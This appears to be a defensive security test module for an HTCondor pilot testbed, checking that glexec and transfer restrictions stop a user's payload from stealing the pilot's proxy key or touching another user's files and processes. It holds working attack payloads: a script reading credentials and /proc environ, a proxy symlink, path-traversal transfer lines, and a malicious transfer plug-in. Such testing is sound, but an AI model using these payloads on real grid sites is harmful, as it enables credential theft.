@@ -1,0 +1,273 @@
+"""Who may do what: a payload against its pilot and its neighbours, and everybody whom the grid must refuse.
+
+     one worker of the filtered site
+     ┌───────────────────────────────────────────────────────────────┐
+     │ pilot (pilotNNN): proxy, startd, starter ── glexec ─▶ payload │  alice's payload goes for the pilot's proxy,
+     │ pilot (pilotNNN): proxy, startd, starter ── glexec ─▶ payload │  for bob's files, for everybody's processes
+     └───────────────────────────────────────────────────────────────┘
+
+The negative control is a pilot without glexec and without the lines that close HTCondor's file transfer, started by
+hand from a stage area of the test's own; it takes only this module's jobs. The same attacks then succeed.
+
+Refusals: each with its message, and with evidence that nothing ran. Carol loses her certificate and gets a new one.
+"""
+
+import json
+import re
+from dataclasses import dataclass
+from pathlib import PurePosixPath
+
+import pytest
+from pilotbed.lab.reach import host
+from support import (
+    HOLD,
+    HandPilot,
+    arguments,
+    ok,
+    processes,
+    until,
+    with_parameters,
+    write,
+)  # fmt: skip
+
+# -- a payload against its surroundings ----------------------------------------------------------------------------
+
+SECRET = "bob's own words"
+VICTIM = f"""#!/bin/sh
+echo "{SECRET}" > secret
+chmod 666 secret "$X509_USER_PROXY"
+exec {HOLD}
+"""
+
+ATTACKER = '''#!/usr/bin/python3
+import json, os, pwd
+targets = json.loads("""@TARGETS@""")
+def attempt(action, thing):
+    try:
+        return True, action(thing)
+    except OSError as error:
+        return False, error.strerror
+def read(path):
+    with open(path, "rb") as file:
+        return file.read(4096).decode(errors="replace")
+starter = int(os.environ["CONDOR_STARTER_PID"])
+os.symlink(targets["proxy"], "loot.pem")
+print(json.dumps({
+    "account": pwd.getpwuid(os.getuid()).pw_name,
+    "files": {path: attempt(read, path) for path in targets["files"]},
+    "starter's environment": attempt(read, f"/proc/{starter}/environ"),
+    "starter": attempt(lambda pid: os.kill(pid, 0), starter),
+    "processes": {pid: attempt(lambda pid: os.kill(pid, 0), pid) for pid in targets["processes"]},
+}))
+'''
+
+#: A transfer plug-in of the user's: whatever it is asked to fetch, it hands out the pilot's proxy.
+PLUGIN = '''#!/usr/bin/python3
+import sys
+if "-classad" in sys.argv:
+    print('PluginVersion = "1"\\nPluginType = "FileTransfer"\\nSupportedMethods = "steal"\\nMultipleFileSupport = true')
+    sys.exit()
+wanted = open(sys.argv[sys.argv.index("-infile") + 1]).read()
+local = wanted.split("LocalFileName", 1)[1].split('"')[1]
+open(local, "w").write(open("@PROXY@").read())
+open(sys.argv[sys.argv.index("-outfile") + 1], "w").write(
+    '[ TransferSuccess = true; TransferFileName = "loot.pem"; TransferUrl = "steal://x/loot.pem" ]')
+'''
+
+#: What HTCondor is asked to do for the job with the pilot's rights (docs/glexec.md). @LOOT@ arrives in the user's home.
+TRANSFERS = {
+    "output by absolute path": "transfer_output_files = @PROXY@\\n@LOOT@",
+    "output by the way up": "transfer_output_files = ../../../cred/pilot.pem\\n@LOOT@",
+    "input by file URL": "transfer_input_files = file://@PROXY@\\ntransfer_output_files = pilot.pem\\n@LOOT@",
+    "plug-in of the user's": "transfer_plugins = steal=thief\\ntransfer_input_files = steal://x/loot.pem\\n"
+    "transfer_output_files = loot.pem\\n@LOOT@",
+}
+LOOT = 'transfer_output_remaps = "pilot.pem=@NAME@.loot; loot.pem=@NAME@.loot"'
+
+
+@dataclass
+class Attack:
+    """Alice's attempt: what her payload reports, what arrived in her home, and whom it was aimed at."""
+
+    report: dict
+    loot: str
+    proxy: str
+    victim: int
+    secret: str
+    pilot: str
+
+
+def attack(jobs, site, alice, bob, extra):
+    """Have alice's payload attack bob's, which waits on the same worker, and the pilot that runs it."""
+    prey = jobs.submit(bob, site, VICTIM, extra=extra)
+    worker, process = prey.holds(site)
+    sandbox = ok(worker, "readlink /proc/%s/cwd", str(process.pid)).strip()
+    proxy = f"{PurePosixPath(sandbox).parents[2]}/cred/pilot.pem"
+    files = [proxy, *ok(worker, "find %s -type f", sandbox).split()]
+    others = [other.pid for other in processes(worker) if "condor_" in other.args or other.pid == process.pid]
+    script = ATTACKER.replace("@TARGETS@", json.dumps({"files": files, "processes": others, "proxy": proxy}))
+    name = worker.run("uname -n").stdout.strip()
+    job = jobs.submit(alice, site, script, extra=f'{extra} && TARGET.GLIDEIN_Worker == "{name}"\n{LOOT}')
+    job.done(60)
+    assert processes_alive(worker, process.pid), "bob's payload has survived"
+    pilot = ok(worker, "stat -c %%U %s", proxy).strip()
+    prey.remove()
+    until("bob's payload is gone", lambda: not processes_alive(worker, process.pid), 30)
+    return Attack(json.loads(job.read("out")), job.read("loot"), proxy, process.pid, f"{sandbox}/secret", pilot)
+
+
+def processes_alive(worker, pid):
+    return worker.run("test -d /proc/%s", str(pid)).rc == 0
+
+
+def transfers(jobs, site, alice, extra, proxy):
+    """Submit every attack of TRANSFERS; return {attack: (its end, what arrived in her home)}."""
+    home = jobs.node.user(alice.account).home
+    write(jobs.node, f"{home}/thief", PLUGIN.replace("@PROXY@", proxy), owner=alice.account, mode="0755")
+    try:
+        made = {
+            what: jobs.submit(
+                alice, site, "#!/bin/sh\nls -l\n",
+                extra=f"{extra}\n{lines}".replace("\\n", "\n").replace("@LOOT@", LOOT).replace("@PROXY@", proxy),
+            )
+            for what, lines in TRANSFERS.items()
+        }  # fmt: skip
+
+        def end(job):
+            ad = job.ad()
+            state = job.status()
+            # No pilot takes it: two cycles of negotiation have said so.
+            refused = ad.get("LastRejMatchTime", 0) > ad["QDate"] + 3 and state == "idle"
+            return "no pilot takes it" if refused else state if state in ("done", "held", "removed") else ""
+
+        ends = {what: until(f"end of {what}", lambda job=job: end(job)) for what, job in made.items()}
+        found = {what: (ends[what], job.read("loot")) for what, job in made.items()}
+        for job in made.values():
+            job.remove()
+        return found
+    finally:
+        jobs.node.run("rm -f %s", f"{home}/thief")
+
+
+GLEXEC = "requirements = TARGET.GLEXEC_JOB =?= true"
+
+
+@pytest.fixture(scope="module")
+def attacked(jobs, filtered_site, alice, bob, pilots):
+    pilots(filtered_site)
+    return attack(jobs, filtered_site, alice, bob, GLEXEC)
+
+
+@pytest.fixture(scope="module")
+def transferred(jobs, filtered_site, alice, attacked):
+    return transfers(jobs, filtered_site, alice, GLEXEC, attacked.proxy)
+
+
+def test_payload_has_not_the_pilots_account(attacked):
+    assert attacked.report["account"] != attacked.pilot
+
+
+def test_payload_reads_neither_the_pilots_proxy_nor_anothers_files(attacked):
+    assert len(attacked.report["files"]) > 3
+    assert {path for path, (could, _) in attacked.report["files"].items() if could} == set()
+    assert attacked.report["starter's environment"][0] is False
+
+
+def test_payload_signals_neither_starter_nor_another_payload(attacked):
+    assert attacked.report["starter"] == [False, "Operation not permitted"]
+    assert str(attacked.victim) in attacked.report["processes"]
+    assert {pid for pid, (could, _) in attacked.report["processes"].items() if could} == set()
+
+
+def test_link_in_the_sandbox_does_not_carry_the_pilots_proxy_out(attacked):
+    assert "PRIVATE KEY" not in attacked.loot
+
+
+@pytest.mark.parametrize("what", TRANSFERS)
+def test_file_transfer_does_not_hand_out_the_pilots_proxy(transferred, what):
+    end, loot = transferred[what]
+    assert "PRIVATE KEY" not in loot
+    assert end in ("no pilot takes it", "held"), end
+
+
+# -- the same without protection -----------------------------------------------------------------------------------
+
+#: The stage's last word on HTCondor's configuration in the control.
+OPEN = """ENABLE_URL_TRANSFERS = True
+FILETRANSFER_PLUGINS = /usr/libexec/condor/curl_plugin
+STARTER_DISABLE_USER_SUPPLIED_TRANSFER_PLUGINS = False
+"""
+OPEN_FILE = """
+[[files]]
+name = "99-open.conf"
+source = "/run/pilotbed-test-open.conf"
+type = "config:c"
+list = "preentry_file_list"
+"""
+UNPROTECTED = '+PilotbedTest = "unprotected"\nrequirements = TARGET.GLEXEC_JOB =?= false'
+
+
+@pytest.fixture(scope="module")
+def open_stage(grid):
+    """A frontend's stage area that wants no glexec; returns what a pilot must be told of it."""
+    frontend = grid.node("frontend")
+    config = ok(frontend, "cat /etc/pilotbed/frontend-stage.toml")
+    web = re.search(r'^web = "(.*)"$', config, re.MULTILINE)[1]
+    group = re.search(r"^\[groups\.([\w-]+)", config, re.MULTILINE)[1]
+    assert 'GLIDEIN_Glexec_Use = "REQUIRED"' in config
+    config = config.replace(f'"{web}"', f'"{web}/test"').replace('"REQUIRED"', '"NEVER"') + OPEN_FILE
+    root = "/var/lib/pilotbed/frontend/stage/test"
+    write(frontend, "/run/pilotbed-test-open.conf", OPEN)
+    write(frontend, "/run/pilotbed-test.toml", config)
+    try:
+        ok(frontend, "mkdir -p %s && pilotbed-stage --config /run/pilotbed-test.toml --out %s", root, root)
+        manifest = json.loads(ok(frontend, "cat %s", f"{root}/manifest.json"))
+        main, part = manifest["main"], manifest["groups"][group]
+        yield {
+            "-clientweb": f"{web}/test", "-clientsign": main["sign"], "-clientdescript": main["descript"],
+            "-clientwebgroup": f"{web}/test/group_{group}", "-clientsigngroup": part["sign"],
+            "-clientdescriptgroup": part["descript"],
+        }  # fmt: skip
+    finally:
+        frontend.run("rm -rf %s /run/pilotbed-test.toml /run/pilotbed-test-open.conf", root)
+
+
+@pytest.fixture(scope="module")
+def unprotected(filtered_site, open_stage, central, pilots):
+    """A pilot with two cores that runs payloads under its own account."""
+    pilots(filtered_site)
+    options = with_parameters(
+        {**arguments(filtered_site), **open_stage},
+        GLIDEIN_CPUS="2", GLIDEIN_Start='TARGET.PilotbedTest =?= "unprotected"',
+    )  # fmt: skip
+    with HandPilot(host(filtered_site.workers[0]), options) as pilot:
+        until(
+            "the unprotected pilot is in the pool",
+            lambda: any(slot["GLEXEC_JOB"] is False for slot in filtered_site.slots(central)) or pilot.check(),
+        )
+        yield pilot
+
+
+@pytest.fixture(scope="module")
+def attacked_unprotected(jobs, filtered_site, alice, bob, unprotected):
+    return attack(jobs, filtered_site, alice, bob, UNPROTECTED)
+
+
+@pytest.fixture(scope="module")
+def transferred_unprotected(jobs, filtered_site, alice, unprotected, attacked_unprotected):
+    return transfers(jobs, filtered_site, alice, UNPROTECTED, attacked_unprotected.proxy)
+
+
+def test_control_without_glexec_the_payload_is_the_pilot(attacked_unprotected):
+    report, found = attacked_unprotected.report, attacked_unprotected
+    assert report["account"] == found.pilot
+    assert "PRIVATE KEY" in report["files"][found.proxy][1]
+    assert report["files"][found.secret] == [True, SECRET + "\n"]
+    assert report["starter"][0] and report["processes"][str(found.victim)][0]
+    assert "PRIVATE KEY" in found.loot, "a link to the pilot's proxy is followed"
+
+
+@pytest.mark.parametrize("what", TRANSFERS)
+def test_control_open_file_transfer_hands_out_the_pilots_proxy(transferred_unprotected, what):
+    end, loot = transferred_unprotected[what]
+    assert "PRIVATE KEY" in loot, end
